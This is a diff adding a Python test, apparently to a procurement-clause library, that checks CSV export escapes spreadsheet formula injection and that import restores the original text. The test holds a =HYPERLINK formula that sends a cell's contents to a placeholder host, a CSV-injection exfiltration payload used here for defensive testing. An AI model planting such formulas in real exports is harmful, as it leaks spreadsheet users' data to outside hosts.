@@ -255,6 +255,27 @@ def test_a_library_exported_then_imported_into_another_organisation_is_the_same(
     assert paper.cpv_prefixes == ["30197644"]
 
 
+HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Cliquez ici")'
+
+
+def test_texts_typed_as_formulas_are_marked_in_the_csv_and_come_back_unchanged(alice, charlie):
+    make_clause(
+        actor=alice, code="formule", title=HYPERLINK, guidance="'cité", warnings="-5 % au plus"
+    )
+
+    export = exports.library_export_csv(actor=alice)
+    rows = list(
+        csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"), newline=""), delimiter=";")
+    )
+    imports.library_import(actor=charlie, file_name=export.file_name, content=export.content)
+
+    assert rows[0]["title"] == "'" + HYPERLINK
+    assert rows[0]["guidance"] == "''cité"
+    assert rows[0]["warnings"] == "'-5 % au plus"
+    copy = library_of(charlie).get(code="formule")
+    assert (copy.title, copy.guidance, copy.warnings) == (HYPERLINK, "'cité", "-5 % au plus")
+
+
 def test_imported_clauses_are_unshared_drafts_of_the_importer_with_their_history(alice, charlie):
     make_library(alice)
     library = exports.library_export_json(actor=alice)
